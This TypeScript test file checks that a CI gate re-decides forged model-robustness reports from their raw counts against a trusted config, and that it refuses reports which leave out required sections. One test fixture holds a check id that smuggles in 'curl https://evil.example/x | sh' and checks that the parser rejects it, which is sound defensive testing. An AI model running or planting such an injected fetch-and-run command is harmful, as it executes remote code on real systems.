/**
 * A report another job made, decided again (the action's `report` mode):
 * the forged reports of test/fixtures/hostile (make_forged_reports.py) say
 * `passed` for MR1 at 8 of 8; decided again from their counts with the
 * trusted config's ceilings they fail. Wilson intervals computed
 * independently: z = 1.959963984540054, 8/8 → [0.6755924351161198, 1].
 */
import { readFileSync } from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { loadConfig } from '../../src/config/load.js';
import { InputError } from '../../src/errors.js';
import { redecide, trustedGate, type TrustedGate } from '../../src/pipeline/redecide.js';
import { parseReportText } from '../../src/report/parse.js';
import type { Report } from '../../src/report/types.js';
import { fixtures } from '../cli-harness.js';
import { repoRoot } from '../shared.js';
import {
  attackModel,
  attackReport,
  robustnessOf,
  transformedKind,
} from '../report/report-fixtures.js';

const hostile = path.join(fixtures, 'hostile');
const forged = (name: string) => {
  const file = path.join(hostile, name);
  return parseReportText(readFileSync(file, 'utf8'), file);
};
/** The trusted config: the hostile set's own (default ceilings: MR1 10%, MR2 and MR3 15%, MR4 25%). */
const trusted = (overrides: [string, string][] = []) =>
  trustedGate(loadConfig(path.join(hostile, 'metacompress.yml'), overrides));

describe('redecide', () => {
  it('fails a forged pass: every rate and interval from the counts, the trusted ceilings', () => {
    const report = forged('forged-pass.json');
    expect(report.gate.passed).toBe(true);
    const decided = redecide(report, trusted(), 'report forged-pass.json');
    expect(decided.gate.passed).toBe(false);
    const mr1 = decided.gate.checks[0]!;
    expect(mr1).toMatchObject({ id: 'MR1', value: 1, ceiling: 0.1, status: 'fail' });
    expect(mr1.reason).toBe('MR1 prediction disagreement 100.0% (8/8) exceeds the ceiling 10.0%');
    expect(decided.relations.mr1.ci95![0]).toBeCloseTo(0.6755924351161198, 12);
    expect(decided.relations.mr1.ci95![1]).toBe(1);
    // MR2 4 of 8 (50%) against 15%: the forged "pass" is a failure too.
    expect(decided.gate.checks.map((c) => `${c.id} ${c.status}`)).toEqual([
      'MR1 fail',
      'MR2 fail',
      'MR3 fail',
      'MR4 inconclusive',
    ]);
    // MR4 from its bins' counts (test/fixtures/newcombe/make_newcombe.py's newcombe): the four
    // counted bins, teacher k/n against student k/n, 1/1 vs 1/3, 2/2 vs 1/2, 2/2 vs 1/1 and
    // 2/2 vs 1/2, have intervals [-0.939, 0.250], [-0.906, 0.273], [-0.794, 0.658] and
    // [-0.906, 0.273]: every one holds both sides of ±0.1, undecided; the rate is 0 of 4
    // with the range [0, 1], which holds the ceiling 25%.
    // The study's count is computed again too: 3 of the 4 bins differ by more than 0.1.
    report.relations.mr4.studyViolations = 0;
    report.relations.mr4.studyRate = 0;
    expect(redecide(report, trusted(), 'report forged-pass.json').relations.mr4).toMatchObject({
      violations: 0,
      n: 4,
      undecided: 4,
      ci95: [0, 1],
      studyViolations: 3,
      studyRate: 0.75,
    });
    expect(decided.gate.failures).toHaveLength(3);
  });

  it('holds the report to the trusted ceilings, not to its own', () => {
    const report = forged('forged-pass.json');
    const loose = trusted([
      ['gate.ceilings.mr1', 'off'],
      ['gate.ceilings.mr2', 'off'],
      ['gate.ceilings.mr3', 'off'],
      ['gate.ceilings.mr4', 'off'],
    ]);
    const decided = redecide(report, loose, 'report');
    expect(decided.gate.passed).toBe(true);
    expect(decided.thresholds.gate.ceilings).toEqual({
      MR1: null,
      MR2: null,
      MR3: null,
      MR4: null,
    });
  });

  it('keeps the failure of a run its time limit stopped, whatever its checks say', () => {
    const report = forged('forged-pass.json');
    report.timeLimit = { seconds: 60, reached: true, notRun: ['the greedy attack'] };
    const off = trusted(['mr1', 'mr2', 'mr3', 'mr4'].map((m) => [`gate.ceilings.${m}`, 'off']));
    const decided = redecide(report, off, 'report');
    expect(decided.gate.passed).toBe(false);
    expect(decided.gate.failures).toEqual([
      expect.stringMatching(
        /^the run stopped at its time limit of 60 s \(time-limit\); not run: the greedy attack\./,
      ),
    ]);
  });

  it('keeps a failure against the baseline, which it cannot decide again', () => {
    const report = forged('forged-pass.json');
    report.gate.checks[1] = {
      ...report.gate.checks[1]!,
      status: 'fail',
      reason: 'MR2 rose against the baseline (paired test)',
      cause: { kind: 'broken', rules: ['paired'] },
    };
    const off = trusted([
      ['gate.ceilings.mr1', 'off'],
      ['gate.ceilings.mr2', 'off'],
      ['gate.ceilings.mr3', 'off'],
      ['gate.ceilings.mr4', 'off'],
    ]);
    const decided = redecide(report, off, 'report');
    expect(decided.gate.passed).toBe(false);
    expect(decided.gate.failures).toEqual(['MR2 rose against the baseline (paired test)']);
  });

  it('recounts flip-rate ratios and their intervals from the flips', () => {
    const kind = {
      ...transformedKind('dead-code', 2, 20, 40),
      flipRateRatio: 1,
      flipRateRatioCi95: [0.5, 1.5] as [number, number],
    };
    const report = { ...forged('forged-pass.json'), robustness: robustnessOf([kind]) };
    const base = trusted();
    const options: TrustedGate = {
      ...base,
      options: {
        ...base.options,
        robustness: { maxFlipRateRatio: 2, minFlips: 0, maxRelativeDegradation: null },
      },
      kinds: ['dead-code'],
    };
    const decided = redecide(report, options, 'report');
    // 20/40 over 2/40 = 10; Katz interval exp(ln 10 ± z·sqrt(1/20 − 1/40 + 1/2 − 1/40)) = [2.58…, 38.7…].
    expect(decided.robustness!.transformed[0]!.flipRateRatio).toBe(10);
    const [low, high] = decided.robustness!.transformed[0]!.flipRateRatioCi95!;
    const se = Math.sqrt(1 / 20 - 1 / 40 + 1 / 2 - 1 / 40);
    expect(low).toBeCloseTo(Math.exp(Math.log(10) - 1.959963984540054 * se), 12);
    expect(high).toBeCloseTo(Math.exp(Math.log(10) + 1.959963984540054 * se), 12);
    expect(decided.gate.checks.find((c) => c.id === 'flip-rate-ratio:dead-code')!.status).toBe(
      'fail',
    );
  });

  it('refuses a robustness section the trusted config has no limits for', () => {
    const report = {
      ...forged('forged-pass.json'),
      robustness: robustnessOf([transformedKind('dead-code', 2, 2, 40)]),
    };
    expect(() => redecide(report, trusted(), 'report r.json')).toThrow(
      new InputError(
        'report r.json: the report has a robustness section, but the config here has no transforms section to hold it to',
      ),
    );
  });
});

/**
 * The trusted config of the omission tests: relation ceilings off (the forged report's relations
 * pass), two kinds and two methods asked for, flip-rate ceiling 2 and relative degradation +100%,
 * both deciding on any count (min-flips and min-attacked 0).
 */
function askingGate(): TrustedGate {
  const off = trusted(['mr1', 'mr2', 'mr3', 'mr4'].map((m) => [`gate.ceilings.${m}`, 'off']));
  return {
    options: {
      ...off.options,
      robustness: { maxFlipRateRatio: 2, minFlips: 0, maxRelativeDegradation: 1, minAttacked: 0 },
    },
    kinds: ['dead-code', 'rename-locals'],
    methods: ['mhm', 'greedy'],
  };
}

/**
 * What the other job ran: dead-code flips the student on 20 of 40 against the teacher's 2 (ratio
 * 10, Katz interval [2.58, 38.7]: fail), rename-locals 20 of 200 each (ratio 1, [0.56, 1.80]:
 * pass); mhm breaks the student on 30 of 100 against the teacher's 2 (degradation 30/2 − 1 = 14,
 * interval of the ratio exp(ln 15 ± 1.96·sqrt(1/30 − 1/100 + 1/2 − 1/100)) − 1 = [2.68, 60.0]:
 * fail), greedy 30 of 100 each (0, [−0.35, 0.53]: pass).
 */
function intactReport(): Report {
  const attacked = (successes: number) => attackModel(100, 100, successes, 500);
  return {
    ...forged('forged-pass.json'),
    robustness: robustnessOf(
      [transformedKind('dead-code', 2, 20, 40), transformedKind('rename-locals', 20, 20, 200)],
      [
        attackReport('mhm', attacked(2), attacked(30)),
        attackReport('greedy', attacked(30), attacked(30)),
      ],
    ),
  };
}

describe('a report that leaves out what the trusted config asks for', () => {
  it('the intact report is accepted, and fails on dead-code and mhm', () => {
    const decided = redecide(intactReport(), askingGate(), 'report r.json');
    expect(decided.gate.passed).toBe(false);
    expect(decided.gate.checks.slice(4).map((c) => `${c.id} ${c.status}`)).toEqual([
      'flip-rate-ratio:dead-code fail',
      'flip-rate-ratio:rename-locals pass',
      'attack-relative-degradation:mhm fail',
      'attack-relative-degradation:greedy pass',
    ]);
  });

  it('without its failing kind and method it would pass: each is refused, named', () => {
    const report = intactReport();
    const robustness = report.robustness!;
    const withoutDeadCode = {
      ...report,
      robustness: { ...robustness, transformed: robustness.transformed.slice(1) },
    };
    const withoutMhm = {
      ...report,
      robustness: { ...robustness, attacks: robustness.attacks.slice(1) },
    };
    const withoutBoth = {
      ...report,
      robustness: { ...withoutDeadCode.robustness, attacks: withoutMhm.robustness.attacks },
    };
    // What the forgery is for: held only to what it holds, it passes.
    const lenient = {
      ...askingGate(),
      kinds: ['rename-locals' as const],
      methods: ['greedy' as const],
    };
    expect(redecide(withoutBoth, lenient, 'report r.json').gate.passed).toBe(true);

    expect(() => redecide(withoutDeadCode, askingGate(), 'report r.json')).toThrow(
      new InputError(
        'report r.json: the report leaves out transformation kind dead-code, which the config here asks for (transforms): a report is decided again only on everything its config asks for',
      ),
    );
    expect(() => redecide(withoutMhm, askingGate(), 'report r.json')).toThrow(
      new InputError(
        'report r.json: the report leaves out attack method mhm, which the config here asks for (transforms): a report is decided again only on everything its config asks for',
      ),
    );
    expect(() => redecide(withoutBoth, askingGate(), 'report r.json')).toThrow(
      new InputError(
        'report r.json: the report leaves out transformation kind dead-code and attack method mhm, which the config here asks for (transforms): a report is decided again only on everything its config asks for',
      ),
    );
  });

  it('a report without its robustness section is refused, naming every kind and method', () => {
    const withoutRobustness = intactReport();
    delete withoutRobustness.robustness;
    expect(() => redecide(withoutRobustness, askingGate(), 'report r.json')).toThrow(
      new InputError(
        'report r.json: the report has no robustness section, but the config here asks for transformation kinds dead-code, rename-locals and attack methods mhm, greedy (transforms): a report is decided again only on everything its config asks for',
      ),
    );
  });

  it('a report without a relation is refused where it is read', () => {
    const file = path.join(hostile, 'forged-pass.json');
    const document = JSON.parse(readFileSync(file, 'utf8')) as {
      relations: Record<string, unknown>;
    };
    delete document.relations.mr3;
    expect(() => parseReportText(JSON.stringify(document), 'report r.json')).toThrow(
      new InputError(
        'report r.json: not a complete report of version 2: relations.mr3 (MR3) is missing',
      ),
    );
  });

  it('asks for the kinds and methods of the config it is given', () => {
    const config = loadConfig(path.join(repoRoot, 'examples', 'vulnerability', 'robustness.yml'));
    const gate = trustedGate(config);
    expect(gate.kinds).toEqual(['rename-locals', 'dead-code', 'swap-operands', 'loop-rewrite']);
    expect(gate.methods).toEqual(['mhm', 'wir-random', 'alert', 'coda', 'greedy']);
    expect(trusted().kinds).toEqual([]);
    expect(trusted().methods).toEqual([]);
  });
});

describe('parseReport and check ids', () => {
  it('refuses a check id a shell or a comment line would read more in', () => {
    const file = path.join(hostile, 'forged-check-id.json');
    expect(() => parseReportText(readFileSync(file, 'utf8'), 'report r.json')).toThrow(
      'report r.json: not a complete report of version 2: gate.checks: "MR9\\"; curl https://evil.example/x | sh; echo \\"\\nMR1" is not a check id (letters, digits and . _ : -)',
    );
  });
});
